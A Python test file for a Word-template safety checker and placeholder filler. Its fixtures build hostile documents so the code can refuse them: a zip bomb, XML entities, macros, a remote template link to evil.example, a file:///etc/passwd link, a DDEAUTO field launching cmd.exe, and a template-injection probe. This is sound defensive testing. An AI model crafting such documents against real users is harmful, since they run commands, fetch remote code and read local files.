"""A partnership's own Word document: what is refused and why, and how placeholders are filled in."""

import re
import zipfile
from io import BytesIO

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from section11.errors import BadInputError, NotOurFileError
from section11.reports import word_safety
from section11.reports.letter_blocks import Entry, Heading, Paragraph, Part, Table
from section11.reports.letter_docx import letter_docx, letter_starter
from section11.reports.word_template import NO_PLACEHOLDER, WordTemplate
from tests.unit.letter_builders import a_letter
from tests.unit.test_letter_wording import HOSTILE

WORDS, PARTS = ("organisation", "cycle", "date"), ("results",)
LETTER = (Heading("Feedback"), Paragraph("Dear all"), Entry("S1.1", (("Why", "So"),)))
VALUES = {
    "organisation": "Riverdale Police",
    "cycle": "Audit 2026",
    "date": "12 May 2026",
    "results": Part((Table(("Standard", "Result"), (("1. Leadership", "Strong"),)),), ""),
}
EXTERNAL = (
    '<Relationship Id="rX" TargetMode="External" Target="{target}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
)


def written(*paragraphs):
    document = Document()
    for words in paragraphs:
        document.add_paragraph(words)
    return saved(document)


def saved(document):
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def changed(content, part, change):
    """Return a document with one of its parts changed, or added where there was none."""
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(old.read(name).decode()) if name == part else old.read(name))
        if part not in old.namelist():
            new.writestr(part, change(""))
    return file.getvalue()


def linked(kind, target):
    rels = "word/_rels/document.xml.rels"
    return changed(
        written("{{ letter }}"),
        rels,
        lambda xml: xml.replace("</Relationships>", EXTERNAL.format(kind=kind, target=target)),
    )


def with_field(instruction):
    document = Document()
    paragraph = document.add_paragraph("{{ letter }}")
    for half in (instruction[:4], instruction[4:]):
        xml = f"<w:r {nsdecls('w')}><w:instrText>{half}</w:instrText></w:r>"
        paragraph._p.append(parse_xml(xml))
    return saved(document)


def bomb(size):
    return changed(written("{{ letter }}"), "word/media/zeros.bin", lambda _: "0" * size)


def template(content):
    return WordTemplate(content, words=WORDS, parts=PARTS)


def filled(content, values=VALUES, letter=LETTER):
    return template(content).filled(values, letter)


GOOD = written("{{ letter }}")
REFUSED = {
    "empty": (b"", word_safety.EMPTY),
    "text": (b"Dear all", word_safety.NOT_WORD),
    "old word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), word_safety.OLD_FORMAT),
    "other zip": (changed(b"PK\x05\x06" + bytes(18), "a.txt", lambda _: "a"), word_safety.NOT_WORD),
    "cut off": (GOOD[:3000], word_safety.UNREADABLE),
    "too large": (GOOD + bytes(word_safety.LARGEST_DOCUMENT), word_safety.TOO_LARGE),
    "zip bomb": (bomb(21 * 2**20), word_safety.UNPACKS_TOO_LARGE),
    "broken xml": (changed(GOOD, "word/document.xml", lambda xml: xml[:-20]), word_safety.UNREADABLE),
    "entities": (
        changed(GOOD, "word/document.xml", lambda xml: xml.replace("?>", '?><!DOCTYPE a [<!ENTITY b "c">]>', 1)),
        word_safety.HAS_ENTITIES,
    ),
    "macro file": (changed(GOOD, "word/vbaProject.bin", lambda _: "VBA"), word_safety.HAS_MACROS),
    "docm": (
        changed(
            GOOD,
            "[Content_Types].xml",
            lambda xml: xml.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
        ),
        word_safety.HAS_MACROS,
    ),
    "dotx": (
        changed(GOOD, "[Content_Types].xml", lambda xml: xml.replace("document.main+xml", "template.main+xml")),
        word_safety.NOT_WORD,
    ),
    "embedded": (changed(GOOD, "word/embeddings/a.bin", lambda _: "OLE"), word_safety.HAS_OBJECTS),
    "linked template": (
        linked("attachedTemplate", "http://evil.example/t.dotm"),
        word_safety.HAS_LINKS.format(target="http://evil.example/t.dotm"),
    ),
    "linked picture": (
        linked("image", "file:///etc/passwd"),
        word_safety.HAS_LINKS.format(target="file:///etc/passwd"),
    ),
    "dde field": (with_field('DDEAUTO c:\\\\cmd.exe "/k calc"'), word_safety.HAS_FIELDS.format(field="DDEAUTO")),
    "fetching field": (
        with_field('INCLUDEPICTURE "http://evil.example/a.png"'),
        word_safety.HAS_FIELDS.format(field="INCLUDEPICTURE"),
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_could_do_harm_or_is_no_document_is_refused_with_one_sentence(name):
    content, said = REFUSED[name]

    with pytest.raises(NotOurFileError) as error:
        template(content)

    assert error.value.user_message == said


@pytest.mark.parametrize(
    ("paragraphs", "said"),
    [
        (["Dear all"], NO_PLACEHOLDER),
        (
            ["Dear all", "{{ organisaton }}"],
            "Paragraph 2, line 1: {{ organisaton }} is not a placeholder. Did you mean",
        ),
        (["{{ organisation }"], "Paragraph 1, line 1: “{{ organisation }” lacks a bracket."),
        (
            ["{{ organisation.__class__.__mro__ }}"],
            "Paragraph 1, line 1: “{{ organisation.__class__.__mro__ }}” is more",
        ),
        (["{% for a in results %}{% endfor %}"], "Paragraph 1, line 1: “{% for a in results %}” is not a statement"),
        (["{% if results %}x{% endif %}"], "Paragraph 1: “{% if results %}x{% endif %}” has more than placeholders."),
        (["{{ not organisation }}"], "Paragraph 1: “{{ not organisation }}” has more than placeholders."),
        (["a", "See {{ results }}"], "Paragraph 2: {{ results }} stands for more than words. Give it a paragraph"),
    ],
)
def test_a_wrong_placeholder_is_named_with_its_paragraph(paragraphs, said):
    with pytest.raises(BadInputError) as error:
        template(written(*paragraphs))

    assert error.value.user_message.startswith(said)


def test_a_table_in_a_header_is_refused():
    document = Document()
    document.add_paragraph("{{ letter }}")
    document.sections[0].header.paragraphs[0].text = "{{ results }}"

    with pytest.raises(BadInputError, match="outside tables, text boxes, headers and footers"):
        template(saved(document))


def test_words_take_their_place_and_keep_the_look_of_what_stood_there():
    document = Document()
    paragraph = document.add_paragraph("To ")
    paragraph.add_run("{{ organ").bold = True
    paragraph.add_run("isation }}")
    paragraph.add_run(" on {{ date }}, {{date}}.").italic = True
    document.sections[0].footer.paragraphs[0].text = "{{ cycle }}"
    table = document.add_table(1, 1)
    table.cell(0, 0).text = "In {{ cycle }}"

    made = filled(saved(document))

    runs = [(run.text, run.bold, run.italic) for run in made.paragraphs[0].runs if run.text]
    assert runs == [
        ("To ", None, None),
        ("Riverdale Police", True, None),
        (" on 12 May 2026, 12 May 2026.", None, True),
    ]
    assert made.sections[0].footer.paragraphs[0].text == "Audit 2026"
    assert made.tables[0].cell(0, 0).text == "In Audit 2026"


def test_the_letter_and_its_parts_stand_where_their_paragraphs_were():
    made = filled(written("Letterhead", "{{ letter }}", "{{ results }}", "Enclosed: the return"))

    assert [one.text for one in made.paragraphs if one.text] == [
        "Letterhead", "Feedback", "Dear all", "S1.1", "Why: So", "Enclosed: the return",
    ]  # fmt: skip
    assert [[cell.text for cell in row.cells] for row in made.tables[0].rows] == [
        ["Standard", "Result"],
        ["1. Leadership", "Strong"],
    ]


def test_a_document_without_the_usual_styles_is_done_with_what_it_has():
    document = Document()
    document.add_paragraph("{{ letter }}")
    for style in [one for one in document.styles if one.name in {"Heading 1", "List Bullet"}]:
        style.delete()

    made = filled(saved(document))

    assert made.paragraphs[0].text == "Feedback"
    assert made.paragraphs[0].runs[0].bold


@pytest.mark.parametrize("text", HOSTILE)
def test_values_go_in_as_text(text):
    words = " ".join(text.split())
    made = filled(
        written("{{ organisation }}", "{{ letter }}"),
        VALUES | {"organisation": text},
        (Paragraph(text), Entry(text, ((text, text),))),
    )

    again = Document(BytesIO(saved(made)))
    assert again.paragraphs[0].text == words
    assert again.paragraphs[1].text == text
    assert [one.text for one in again.paragraphs[2:4]] == [text, f"{text}: {text}"]


def test_the_same_template_is_filled_in_anew_each_time():
    one = template(GOOD)

    first, second = (one.filled(VALUES, (Paragraph(words),)) for words in ("First", "Second"))

    assert [made.paragraphs[0].text for made in (first, second)] == ["First", "Second"]


def test_the_document_to_begin_with_can_be_used_as_it_is():
    starter = letter_starter("Riverdale & District")

    made = filled(starter)

    assert made.paragraphs[0].text == "Riverdale & District"
    assert made.sections[0].footer.paragraphs[0].text == "Riverdale Police, Audit 2026. 12 May 2026"


def test_a_letter_in_the_partnerships_document_has_its_title_and_opens_again():
    content = letter_docx(a_letter(is_preview=True), LETTER, VALUES, template(GOOD))

    document = Document(BytesIO(content))
    assert document.paragraphs[0].text.startswith("Preview for scrutiny.")
    assert document.core_properties.title == "Riverdale Police: Audit 2026, preview, not released"
    with zipfile.ZipFile(BytesIO(content)) as archive:
        assert not re.search(r"\{\{", archive.read("word/document.xml").decode())
